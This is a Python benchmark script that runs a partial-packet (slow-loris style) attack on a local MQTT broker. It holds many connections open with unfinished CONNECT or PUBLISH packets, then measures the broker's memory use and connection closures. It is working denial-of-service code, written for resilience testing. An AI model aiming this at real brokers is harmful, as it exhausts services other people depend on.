"""Partial-packet attack against a broker on 127.0.0.1:PORT whose process id is PID.

    python3 bench/partial_attack.py PORT PID {connect|publish} N SIZE

N sockets each send 99 % of a CONNECT of SIZE bytes (connect), or connect and then send 99 % of
a PUBLISH of SIZE bytes (publish), and never finish. Prints the broker's peak RSS (VmRSS sampled
from /proc/PID/status) and how many sockets the broker closed, and when; gives up after 75 s.
"""
import os, socket, sys, time, struct
port, pid, mode, n, size = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
def rss():
    for l in open(f"/proc/{pid}/status"):
        if l.startswith("VmRSS"):
            return int(l.split()[1]) // 1024
def varint(x):
    out = b""
    while True:
        b = x % 128; x //= 128
        out += bytes([b | (0x80 if x else 0)])
        if not x: return out
def connect_packet(cid):
    body = b"\x00\x04MQTT\x04\x02\x00\x00" + struct.pack(">H", len(cid)) + cid
    return b"\x10" + varint(len(body)) + body
socks = []
start_rss = rss(); peak = start_rss
t0 = time.time()
for i in range(n):
    s = socket.create_connection(("127.0.0.1", port)); s.setblocking(True)
    if mode == "connect":
        body_len = size - 5
        head = b"\x10" + varint(body_len) + b"\x00\x04MQTT\x04\x02\x00\x00"
        data = head + b"x" * (int(size * 0.99) - len(head))
    else:
        s.sendall(connect_packet(b"att%d" % i)); s.recv(4)
        body_len = size - 5
        head = b"\x30" + varint(body_len) + b"\x00\x01t"
        data = head + b"x" * (int(size * 0.99) - len(head))
    s.sendall(data)
    socks.append(s)
    if i % 200 == 0:
        peak = max(peak, rss())
print(f"sent in {time.time()-t0:.1f}s; rss start {start_rss} MiB")
closed = [None] * n
for s in socks: s.setblocking(False)
deadline = time.time() + 75
while time.time() < deadline and None in closed:
    peak = max(peak, rss())
    for i, s in enumerate(socks):
        if closed[i] is None:
            try:
                d = s.recv(65536)
                if d == b"" : closed[i] = time.time() - t0
            except BlockingIOError: pass
            except OSError: closed[i] = time.time() - t0
    time.sleep(0.5)
done = [c for c in closed if c is not None]
print(f"peak rss {peak} MiB; closed {len(done)}/{n}; last close at {max(done) if done else None:.1f}s" if done else f"peak rss {peak} MiB; closed 0/{n}")
